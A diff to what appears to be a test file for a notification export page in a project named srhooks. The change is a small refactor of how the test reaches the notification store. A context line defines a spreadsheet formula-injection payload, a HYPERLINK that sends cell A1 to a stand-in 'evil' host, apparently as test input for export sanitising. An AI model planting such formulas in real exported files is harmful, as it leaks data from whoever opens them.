@@ -15,7 +15,7 @@ from srhooks.domain.clock import now_ms
 from srhooks.domain.models import Filter, NewNotification
 from srhooks.web.pages import export as export_page
 from srhooks.web.pages.export import _all, _chosen
-from srhooks.web.state.app_keys import SERVICES
+from srhooks.web.state.app_keys import STORE
 
 from tests.support.harness import Browser, World
 
@@ -24,7 +24,7 @@ HOSTILE = '=HYPERLINK("http://evil/?"&A1,"click")'
 
 async def store_some(world: World, browser: Browser, count: int, body: bytes) -> None:
     """Straight into the store: the intake has its own tests."""
-    store = world.app[SERVICES].store
+    store = world.app[STORE]
     (user_id,) = await store.user_ids()
     new = [
         NewNotification(
